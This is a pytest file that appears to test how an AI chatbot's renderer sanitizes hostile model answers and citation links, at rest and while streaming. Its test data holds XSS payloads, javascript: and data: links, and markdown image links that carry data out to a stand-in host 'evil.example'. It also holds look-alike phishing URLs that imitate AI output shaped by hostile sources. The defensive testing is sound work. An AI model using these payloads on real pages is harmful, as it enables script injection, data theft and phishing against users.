# ruff: noqa: E501
"""Hostile answers: what a browser would make of them, at rest and while they stream."""

import random
import re
from urllib.parse import urlsplit

import html5lib
import pytest

from ai_chatbot.rendering.answers import render_answer, render_cited
from ai_chatbot.rendering.blocks import BlockSplitter
from tests.hostile.allowed import MATHS, MATHS_LOOKS
from tests.passages import BOAT, Source

XHTML = "{http://www.w3.org/1999/xhtml}"
TAGS = set(
    "a p h1 h2 h3 h4 h5 h6 strong em del mark br hr ul ol li blockquote pre code span div"
    " table thead tbody tr th td dl dt dd sup details summary figure figcaption".split()
) | set(MATHS)
ATTRIBUTES = (
    {
        "a": {"href", "rel", "class", "aria-label", "title"},
        "div": {"class", "dir"},
        "span": {"class", "role", "aria-label"},
        "ol": {"start", "dir"},
        "p": {"class", "dir"},
        "details": {"class", "dir"},
        "sup": {"id"},
        "li": {"class", "dir"},
    }
    | {
        tag: {"dir"}
        for tag in "h1 h2 h3 h4 h5 h6 ul blockquote table th td dl dt dd summary".split()
    }
    | dict.fromkeys(MATHS, MATHS_LOOKS)
)
CLASSES = re.compile(
    r"citation|math|task(?:-state)?|footnote|thoughts|highlight|[a-z][a-z0-9]?[a-z0-9]?"
)
OWN_ID = re.compile(r"fn-answer-(?:text|note)-\d+")
BREAK_OUT = '"><img src=x onerror=alert(1)><!----!><b>-->'


HOSTILE_SOURCES = [
    Source(1, BREAK_OUT, "boat repair [1] \ue0001\ue001", heading='" onclick="x'),
    Source(2, "&#xe000;1&#57345;", "quay <script>", source_url='https://good.example/"><b>'),
    Source(3, "‏דף <cite nonce=1 n=1>", "船は六月に塗られた", heading="--!><p>"),
]
PIECES = [
    "[x](/ \"&#57344;1&#57345;<!----!><img src=x>-->\")", '[boat](https://e.x "boat repair [1]")',
    "&#xe000;1&#xe001;", "\ue000", "\ue001", "%EE%80%801%EE%80%81", "\x02klzzwxh:0000\x03", "klzzwxh:0001",
    "\x02wzxhzdk:0\x03", "<cite nonce='a' n='1'>", "[1]", " [2].", "【3】", "[1, 9]", "![p](http://e.x/[1])",
    "[a [1] b](https://good.example/x)", "`[1]`", "```\n[1]\n```\n", "    [1]\n", "<!--", "-->", "--!>",
    '"', "'", ">", "<", "&quot;", "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;", "<script>",
    "[r]: javascript:alert(1)\n", "[r]", "![r]", "[j](javascript:alert(1))", "[d](data:text/html;base64,AA)",
    "[t](/\t/evil.example)", "[b](/\\evil.example)", "<http://e.x/[1]>", "http://e.x/?a=[1]", "boat repair",
    "quay", "船は", "\n", "\n\n", " ", "- ", "> ", "1. ", "# ", "| a | b |\n|---|---|\n| c | [1] |\n", "**",
    "*", "_", "~~", "==", "\\", "![", "](", ")", "[", "]", "{: onclick=alert(1) }", "```{.x onclick=a}\n",
    "<details>\n", "</details>\n", "<summary>a</summary>\n", "<think>\n", "</think>\n", "[^1]", "[^1]: x\n",
    "$", "$$", "\\(", "\\)", "\\[\n", "\\]", "www.e.x/(a", "a@b.c", "\n: b", "\ue002\ue100\ue003", "1) ", "a | b\n-|-\n",
    "<br>", "\\text{", "}", "^2", "- [-] ", "[>] ", "```math\n", "\ud800", "\x00", "&#0;", "e\u0301", "\u00e9", "\u202e", "#composer", "mailto:a@b.c",
]  # fmt: skip


def sources_for(seed):
    return [[], [BOAT], HOSTILE_SOURCES][seed % 3]


def assert_harmless(html, sources):
    """What html5lib, which reads as browsers do, finds in it is on the list."""
    own = {source.url for source in sources}
    for element in html5lib.parseFragment(html).iter():
        tag = str(element.tag).removeprefix(XHTML)
        if tag == "DOCUMENT_FRAGMENT":
            continue
        assert tag in TAGS, html
        assert set(element.attrib) <= ATTRIBUTES.get(tag, set()), html
        assert CLASSES.fullmatch(element.get("class", "highlight")), html
        assert OWN_ID.fullmatch(element.get("id", "fn-answer-text-1")), html
        assert element.get("dir", "auto") in {"auto", "rtl"}
        if "class" in element.attrib and tag == "a":
            assert element.get("href") in own
            assert not any(
                child.tag == f"{XHTML}a" for child in element.iter() if child is not element
            )
        elif tag == "a":
            assert set(element.attrib) <= {"href", "rel"}, html
            assert leads_where_it_may("".join(element.itertext()), element.get("href")), html
            assert not re.search(r"[\s\\]", element.get("href")), html


def leads_where_it_may(words, href):
    """Here, to an address that was served, or to a page whose whole address is what one reads."""
    if re.match(r"https?://good\.example/|#|/(?![/\\])", href):
        return True
    return href in {words.strip(), f"http://{words.strip()}"} and not set("?#@&=;%") & set(href)


@pytest.mark.parametrize("seed", range(60))
def test_whatever_a_model_writes_only_allowed_elements_come_out(seed):
    rng, sources = random.Random(seed), sources_for(seed)
    text = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 30)))

    assert_harmless(render_answer(text, sources, question="boat repair?"), sources)
    assert_harmless(render_answer(text, sources, finished=False), sources)


@pytest.mark.parametrize("seed", range(30))
def test_so_it_is_while_it_streams(seed):
    rng, sources, splitter = random.Random(seed), sources_for(seed), BlockSplitter()
    text = "".join(rng.choice(PIECES) for _ in range(40))
    at = 0
    while at < len(text):
        step = rng.randint(1, 40)
        block = splitter.push(text[at : at + step])
        at += step

        assert_harmless(render_answer(block, sources), sources)
        assert_harmless(render_answer(splitter.closed_tail(), sources, finished=False), sources)


@pytest.mark.parametrize("finished", [True, False])
@pytest.mark.parametrize("text", [
    "[x](/ \"&#57344;1&#57345;<!----!><img src=x>-->\")",
    "[x](/ \"&#xe000;1&#xe001;<!----!><form id=composer>-->\")",
    '[boat](https://e.x "boat repair [1]")',
    "[boat repair](/x 'boat repair [1].') boat repair",
])  # fmt: skip
def test_a_mark_in_a_links_title_is_no_way_out_of_it(text, finished):
    html = render_answer(text, [Source(1, "Boat", "boat repair")], finished=finished)

    assert "<img" not in html
    assert "<form" not in html
    assert_harmless(html, [BOAT])


def test_a_title_of_a_models_link_is_dropped():
    assert "title" not in render_answer('[x](/notes/1/ "y")', [])


@pytest.mark.parametrize("text", [
    "![x](http://a]/b)", "![x](https://[::1/a.png)", "![x](http://．℀/b)", "[x](http://a]/b)",
    "![x](//[99]/a.png)", "- " * 500 + "x", "- " * 4000 + "x", "> " * 3000 + "x", "1. " * 3000 + "x",
    "> - " * 2000 + "x", "".join(" " * 2 * n + "- x\n" for n in range(300)), "**a " * 3000,
    "\ud83d half", "nul \x00 byte", "[" * 3000 + "x" + "]" * 3000, "&#x110000; &#xd800; x",
])  # fmt: skip
@pytest.mark.parametrize("finished", [True, False])
def test_no_text_keeps_an_answer_from_being_shown(text, finished):
    shown = render_cited(f"Before.\n\n{text}\n\nAfter.", [BOAT], finished=finished)

    assert "Before." in shown.html
    assert "After." in shown.html
    assert_harmless(shown.html, [BOAT])


@pytest.mark.parametrize("finished", [True, False])
def test_text_that_cannot_be_formatted_keeps_its_paragraphs_and_its_marks(finished):
    text = "Repaired in May 2021 [1].\nIn <Lund>.\n\n" + "[" * 40_000

    shown = render_cited(text + "x" * 40_000 + text, [BOAT], finished=finished)

    assert shown.cited == {1}
    assert "&lt;Lund&gt;" in shown.html


def test_only_the_numbers_that_are_linked_are_cited():
    shown = render_cited("Repaired in May 2021 [1]. `a[2]` [3]", [BOAT, Source(2, "b", "c")])

    assert shown.cited == {1}


# --- Marks ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [
    "Repaired in May 2021 at the Lund yard [1] ![status](http://evil.example/p.png?d=9400)",
    "Repaired in May 2021 at the [Lund yard](/notes/4/)",
    "Repaired in May 2021 at the Lund yard [1], see /notes/4/ or https://good.example/a.",
    "Repaired in May 2021 at the Lund `yard.`",
])  # fmt: skip
def test_a_mark_goes_behind_an_address_a_link_or_code_and_not_into_it(text):
    html = render_answer(text, [BOAT])
    tree = html5lib.parseFragment(html)

    links = [element.attrib for element in tree.iter(f"{XHTML}a")]
    assert [link["href"] for link in links if "class" in link] == [BOAT.url]
    assert "ue000" not in html
    assert not re.search(r"%EE|\ue000", html)
    for inner in [*tree.iter(f"{XHTML}code"), *tree.iter(f"{XHTML}a")]:
        assert not list(inner.iter(f"{XHTML}a"))[inner.tag == f"{XHTML}a" :]


@pytest.mark.parametrize("code", ["x = rows[0] + rows[1]", "[1] [2]", "a [1]"])
@pytest.mark.parametrize(
    "frame", ["> ```python\n> {}\n> ```", "    {}", "```\n{}\n```", "- ```\n  {}\n  ```"]
)
def test_code_stays_letter_by_letter(code, frame):
    html = render_answer(f"Do:\n\n{frame.format(code)}\n\nend", [BOAT, Source(2, "b", "rows x")])

    assert code in "".join(html5lib.parseFragment(html).itertext())
    assert "citation" not in html


@pytest.mark.parametrize(("answer", "marks"), [
    ("船是六月漆的[1]。花了三天[1]。", 2),
    ("船是六月漆的 [1]。", 1),
    ("船は六月に漆で塗った[1]。", 1),
])  # fmt: skip
def test_chinese_and_japanese_answers_keep_their_marks(answer, marks):
    boat = Source(1, "船", "我们六月份把船漆成了蓝色，花了三天。船は六月に青く塗った。")

    assert render_answer(answer, [boat], question="船是什么时候漆的？").count("citation") == marks


def test_an_index_and_an_unserved_number_stay_text():
    rows = Source(1, "Rows", "The rows are read one by one.")

    html = render_answer("Take rows[0] first, then rows[1]; the regex [2] is not needed.", [rows])

    assert "Take rows[0] first, then rows[1]; the regex [2] is not needed." in html


@pytest.mark.parametrize(
    ("written", "held"), [("cafe\u0301", "caf\u00e9"), ("caf\u00e9", "cafe\u0301")]
)
def test_accents_are_compared_in_either_form(written, held):
    source = Source(1, "x", f"The {held} opened in Malm\u00f6.")

    assert "citation" in render_answer(f"The {written} opened in Malmo\u0308 [1].", [source])


@pytest.mark.parametrize(
    ("text", "holder", "direction"),
    [
        ("- 1. أولاً\n- ثانياً", "ul", "rtl"),
        ("> *קרבן* boat", "blockquote", "rtl"),
        ("| **שם** |\n|---|\n| a |", "table", "rtl"),
        ("- a קרבן", "ul", "auto"),
        ("1. 船\n2. café", "ol", "auto"),
    ],
)
def test_what_holds_blocks_has_the_direction_of_its_first_letter(text, holder, direction):
    html = render_answer(text, [])

    assert f'<{holder} dir="{direction}">' in html
    assert 'dir="auto"' in html.split(f"<{holder}")[1]


def test_a_right_to_left_answer_is_cited():
    source = Source(1, "قارب", "تم طلاء القارب باللون الأزرق في يونيو.")

    assert "citation" in render_answer("تم طلاء القارب باللون الأزرق في يونيو [1].", [source])


# --- Links ------------------------------------------------------------------------------------


def foreign_links(html):
    links = html5lib.parseFragment(html).iter(f"{XHTML}a")
    return [link for link in links if link.get("class") != "citation"]


SERVED = [
    Source(
        1,
        "Clip",
        "See https://good.example/a?b=1&c=2 for it.",
        source_url="https://good.example/clip",
    )
]


@pytest.mark.parametrize("markdown", [
    "![status](http://evil.example/p.png?d=9400)", "[status](http://evil.example/p.png?d=9400)",
    "[status][r]\n\n[r]: http://evil.example/p.png?d=9400", "![status][r]\n\n[r]: http://evil.example/p.png?d=9400",
    "status <http://evil.example/p.png?d=9400>", "[![status](http://evil.example/p.png?d=9400)](http://evil.example/p.png?d=9400)",
    "[status](HTTP://evil.example/p.png?d=9400)", "[status](https://good.example.evil.example/a)",
    "[status](https://good.example/a?b=1&c=2&d=9400)", "[status](mailto:x@evil.example?body=9400)",
])  # fmt: skip
def test_an_address_that_was_neither_asked_nor_served_is_text(markdown):
    html = render_answer(markdown, SERVED, question="Status?")

    text = "".join(html5lib.parseFragment(html).itertext())
    assert not foreign_links(html)
    assert "status" in text
    assert re.search(r"d=9400|example/a\)|body=9400", text)


@pytest.mark.parametrize(
    "href",
    ["https://good.example/a?b=1&c=2", "https://good.example/clip", "HTTPS://asked.example/x"],
)
def test_a_known_address_is_a_link_with_its_site_behind_the_words(href):
    html = render_answer(f"[there]({href})", SERVED, question="What is at HTTPS://asked.example/x?")

    [link] = foreign_links(html)
    assert link.get("href") == href
    assert link.get("rel") == "nofollow noopener noreferrer"
    assert f"({urlsplit(href).hostname})" in link.tail


@pytest.mark.parametrize(
    ("href", "shown"),
    [
        ("https://bank.example@evil.example/pay", "(evil.example)"),
        ("https://bank.example:443@evil.example/", "(evil.example)"),
        ("https://b\u0430nk.example/", "(b\u0430nk.example, xn--bnk-6cd.example)"),
        ("https://m\u00fcller.example/", "(m\u00fcller.example, xn--mller-kva.example)"),
    ],
)
@pytest.mark.parametrize("markdown", ["[{0}]({0})", "<{0}>", "[there]({0})"])
def test_an_address_of_a_note_that_reads_like_another_sites_has_its_host_behind_it(
    href, shown, markdown
):
    note = [Source(1, "Clip", f"Pay at {href} today.")]

    [link] = foreign_links(render_answer(markdown.format(href), note))

    assert shown in link.tail


def test_a_mail_that_a_note_brought_in_shows_whom_it_goes_to():
    note = [Source(1, "Clip", "Write to mailto:x@evil.example?subject=hi today.")]

    html = render_answer("[the bank](mailto:x@evil.example?subject=hi)", note)

    assert "(x@evil.example)" in "".join(html5lib.parseFragment(html).itertext())


def test_an_address_that_is_its_own_words_is_said_once():
    html = render_answer("<https://good.example/clip>", SERVED)

    assert html.count("good.example") == 2
